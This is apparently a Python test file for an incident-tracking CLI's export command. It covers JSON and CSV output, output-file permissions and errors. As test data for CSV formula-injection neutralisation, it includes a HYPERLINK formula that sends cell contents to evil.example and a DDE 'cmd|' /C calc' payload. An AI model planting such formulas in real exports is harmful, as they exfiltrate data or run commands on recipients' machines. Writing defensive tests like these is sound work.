"""export end to end: JSON in the shape of `list --json` / `show --json`, RFC 4180 CSV with
formula neutralisation read back with Python's csv module, filters, -o written atomically and
privately, and the errors."""

import csv
import io
import json
import os
import stat
import subprocess

from harness import OutageTestCase

# The incident object's fields (docs/cli.md), which are the CSV columns in this order.
COLUMNS = [
    "id", "title", "scenario", "status", "phase", "severity", "owner", "services", "affected",
    "dedup_key", "eta", "opened_at", "closed_at", "next_update_due", "update_interval_minutes",
    "handed_off_at", "resolution", "root_cause", "recurrence", "actions",
]
EVENT_COLUMNS = ["incident", "event", "at", "kind", "actor", "description", "payload"]

# Values a spreadsheet would run as formulas, and the other characters CSV must quote.
FORMULA_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"click, me")'
DANGEROUS = ["=1+1", "+31 20 555 0100", "-2+3", "@SUM(A1:A9)", "\tcmd|' /C calc'!A0"]


def neutralised(value):
    """What the CSV cell holds for a value: a leading single quote before a formula prefix."""
    return "'" + value if value[:1] in ("=", "+", "-", "@", "\t", "\r") else value


def cell(value):
    """The CSV cell for a JSON value: null empty, lists one item per line; only the start of
    the whole cell matters to a spreadsheet."""
    if value is None:
        return ""
    if isinstance(value, list):
        return neutralised("\n".join(str(v) for v in value))
    return neutralised(str(value))


class ExportTest(OutageTestCase):
    # Every writer these tests drive must leave the tables as its events say.
    verify_log_at_end = True

    def setUp(self):
        super().setUp()
        self.first = self.open_incident(
            FORMULA_TITLE, "power-loss", "--service", "phones", "--service", "=cmd|' /C calc'!A0",
            "--affected", "120", "--note", 'line one\nline "two", with a comma')
        self.ok("assess", self.first, "--answer", "down=yes")
        self.ok("update", self.first, "--status", "identified", "--note", "-starts with minus",
                "--eta", "2h", env={"OUTAGE_NOW": "2026-11-22T10:05:00Z"})
        self.ok("handoff", self.first, "--to", "@bob", "--note", "+over to you",
                env={"OUTAGE_NOW": "2026-11-22T10:10:00Z"})
        self.second = self.open_incident(
            "Ransom note on a laptop", "malware", "--service", "file shares",
            env={"OUTAGE_NOW": "2026-11-23T09:00:00Z"})
        self.ok("close", self.second, "--resolution", "@restored\r\nfrom backup",
                "--root-cause", "\tphishing", "--action", "=train staff", "--action",
                "MFA, everywhere", env={"OUTAGE_NOW": "2026-11-23T12:00:00Z", "OUTAGE_USER": "-ops"})
        self.third = self.open_incident(
            "Supplier portal down", "third-party-outage", "--dedup-key", "portal",
            env={"OUTAGE_NOW": "2026-11-24T08:00:00Z"})
        self.env["OUTAGE_NOW"] = "2026-11-25T00:00:00Z"

    def listed(self, *args):
        return self.run_json("list", "--status", "all", *args)

    def read_csv(self, text):
        return list(csv.reader(io.StringIO(text, newline="")))

    # JSON ----------------------------------------------------------------------------------

    def test_json_is_the_list_incident_objects(self):
        out = self.ok("export")
        self.assertEqual(json.loads(out), self.listed())
        self.assertEqual(self.ok("export", "--format", "json"), out)
        self.assertEqual(self.ok("export", "--json"), out)
        # One incident per line, as list --json prints.
        self.assertEqual(len(out.splitlines()), 3 + 2)

    def test_json_with_events_carries_each_timeline(self):
        doc = json.loads(self.ok("export", "--events"))
        self.assertEqual([i["id"] for i in doc], [self.first, self.second, self.third])
        for incident in doc:
            shown = self.run_json("show", incident["id"])
            self.assertEqual(incident, shown)
        kinds = [e["kind"] for e in doc[0]["timeline"]]
        self.assertEqual(kinds[:2], ["opened", "assessed"])
        self.assertIn("handoff", kinds)

    def test_filters(self):
        ids = lambda *args: [i["id"] for i in json.loads(self.ok("export", *args))]
        self.assertEqual(ids("--status", "open"), [self.first, self.third])
        self.assertEqual(ids("--status", "closed"), [self.second])
        self.assertEqual(ids("--since", "2026-11-23T00:00:00Z"), [self.second, self.third])
        self.assertEqual(ids("--since", "1d"), [self.third])
        self.assertEqual(ids("--status", "open", "--since", "2026-11-23"), [self.third])
        rows = self.read_csv(self.ok("export", "--format", "csv", "--status", "closed"))
        self.assertEqual([r[0] for r in rows], ["id", str(self.second)])

    # CSV -----------------------------------------------------------------------------------

    def test_csv_round_trips_through_pythons_csv_module(self):
        out = self.ok("export", "--format", "csv")
        rows = self.read_csv(out)
        self.assertEqual(rows[0], COLUMNS)
        incidents = self.listed()
        self.assertEqual(len(rows), 1 + len(incidents))
        for row, incident in zip(rows[1:], incidents):
            self.assertEqual(len(row), len(COLUMNS))
            self.assertEqual(row, [cell(incident[c]) for c in COLUMNS])
        by_id = {int(r[0]): dict(zip(COLUMNS, r)) for r in rows[1:]}
        first, second = by_id[self.first], by_id[self.second]
        self.assertEqual(first["title"], "'" + FORMULA_TITLE)
        # A spreadsheet looks at the start of the cell only.
        self.assertEqual(first["services"], "phones\n=cmd|' /C calc'!A0")
        self.assertEqual(first["owner"], "'@bob")
        self.assertEqual(first["severity"], "SEV2")
        self.assertEqual(first["affected"], "120")
        self.assertEqual(first["update_interval_minutes"], "60")
        self.assertEqual(first["closed_at"], "")
        self.assertEqual(second["resolution"], "'@restored\r\nfrom backup")
        self.assertEqual(second["root_cause"], "'\tphishing")
        self.assertEqual(second["actions"], "'=train staff\nMFA, everywhere")

    def test_csv_is_rfc_4180(self):
        raw = self.run_bytes("export", "--format", "csv")
        self.assertTrue(raw.startswith(b"id,title,scenario,status,phase,severity,"))
        self.assertTrue(raw.endswith(b"\r\n"))
        # Outside quoted fields every line ends with CRLF.
        quoted = False
        previous = None
        for byte in raw:
            if byte == ord('"'):
                quoted = not quoted
            elif byte == ord("\n") and not quoted:
                self.assertEqual(previous, ord("\r"), "a record ends without CRLF")
            previous = byte
        self.assertFalse(quoted)
        self.assertIn(b'"\'=HYPERLINK(""http://evil.example/?""&A1,""click, me"")"', raw)

    def test_no_cell_starts_with_a_formula_prefix(self):
        for args, expected in ((["--format", "csv"], ["'=HYPERLINK", "'@bob", "'\tphishing"]),
                               (["--format", "csv", "--events"], ["'-ops"])):
            rows = self.read_csv(self.ok("export", *args))
            cells = [c for row in rows for c in row]
            for value in cells:
                self.assertNotIn(value[:1], ("=", "+", "-", "@", "\t", "\r"), repr(value))
            for value in expected:
                self.assertTrue(any(c.startswith(value) for c in cells), value)

    def test_csv_events_one_row_per_event(self):
        rows = self.read_csv(self.ok("export", "--format", "csv", "--events"))
        self.assertEqual(rows[0], EVENT_COLUMNS)
        (count,) = self.query("SELECT COUNT(*) FROM events")[0]
        self.assertEqual(len(rows) - 1, count)
        timelines = {i["id"]: i["timeline"] for i in json.loads(self.ok("export", "--events"))}
        for row in rows[1:]:
            record = dict(zip(EVENT_COLUMNS, row))
            incident, event_id = int(record["incident"]), int(record["event"])
            event = next(e for e in timelines[incident] if e["id"] == event_id)
            self.assertEqual(record["at"], event["at"])
            self.assertEqual(record["kind"], event["kind"])
            self.assertEqual(record["actor"], neutralised(event["actor"]))
            payload = json.loads(record["payload"])
            expected = {k: v for k, v in event.items() if k not in ("id", "at", "kind", "actor")}
            self.assertEqual(payload, expected)
        handoff = next(r for r in rows if r[3] == "handoff")
        self.assertEqual(handoff[5], "handed over from tester to @bob — +over to you")
        # Ordered by incident, then by event.
        keys = [(int(r[0]), int(r[1])) for r in rows[1:]]
        self.assertEqual(keys, sorted(keys))

    def test_csv_events_of_the_selected_incidents_only(self):
        rows = self.read_csv(self.ok("export", "--format", "csv", "--events", "--status", "closed"))
        self.assertEqual({r[0] for r in rows[1:]}, {str(self.second)})
        self.assertEqual([r[3] for r in rows[1:]], ["opened", "closed"])

    # -o ------------------------------------------------------------------------------------

    def test_output_file_is_private_and_replaced_atomically(self):
        folder = os.path.join(self.tmp, "exports")
        os.mkdir(folder)
        target = os.path.join(folder, "incidents.csv")
        with open(target, "w") as f:
            f.write("old content\n")
        os.chmod(target, 0o644)
        out = self.ok("export", "--format", "csv", "-o", target)
        self.assertEqual(out, f"Exported 3 incidents to {target} (csv).\n")
        with open(target, newline="") as f:
            self.assertEqual(f.read(), self.ok("export", "--format", "csv"))
        self.assertEqual(stat.S_IMODE(os.stat(target).st_mode), 0o600)
        self.assertEqual(os.listdir(folder), ["incidents.csv"])

        (events,) = self.query("SELECT COUNT(*) FROM events")[0]
        out = self.ok("export", "--events", "--output", target)
        self.assertEqual(out, f"Exported 3 incidents and {events} events to {target} (json).\n")
        with open(target) as f:
            self.assertEqual(json.load(f), json.loads(self.ok("export", "--events")))
        summary = self.run_json("export", "--events", "--format", "csv", "-o", target)
        self.assertEqual(summary,
                         {"file": target, "format": "csv", "incidents": 3, "events": events})
        self.assertEqual(os.listdir(folder), ["incidents.csv"])

    def test_empty_or_missing_log(self):
        os.remove(self.db)
        self.assert_fails(["export"], 3, f"no incident log at {self.db}")
        self.assertFalse(os.path.exists(self.db))
        self.ok("init")
        self.assertEqual(self.ok("export"), "[]\n")
        self.assertEqual(self.ok("export", "--format", "csv"), ",".join(COLUMNS) + "\r\n")
        self.assertEqual(self.ok("export", "--format", "csv", "--events"),
                         ",".join(EVENT_COLUMNS) + "\r\n")

    # Errors --------------------------------------------------------------------------------

    def test_errors(self):
        self.assert_fails(["export", "--format", "xlsx"], 2, ["--format", "xlsx"])
        self.assert_fails(["export", "--status", "pending"], 2, "--status")
        self.assert_fails(["export", "--since", "yesterday"], 2, "--since: ")
        self.assert_fails(["export", "--format", "csv", "--json"], 2,
                          "--json prints JSON; it contradicts --format csv")
        missing = os.path.join(self.tmp, "no", "such", "dir", "out.csv")
        self.assert_fails(["export", "-o", missing], 1, ["cannot write", "no/such/dir"])
        self.assertFalse(os.path.exists(os.path.dirname(missing)))
        self.assert_fails(["export", "-o", self.tmp], 1, "cannot write")

    def run_bytes(self, *args):
        proc = subprocess.run([self.bin, *map(str, args)], env=self.env, capture_output=True,
                              stdin=subprocess.DEVNULL, cwd=self.tmp, timeout=30)
        self.assertEqual((proc.returncode, proc.stderr), (0, b""))
        return proc.stdout
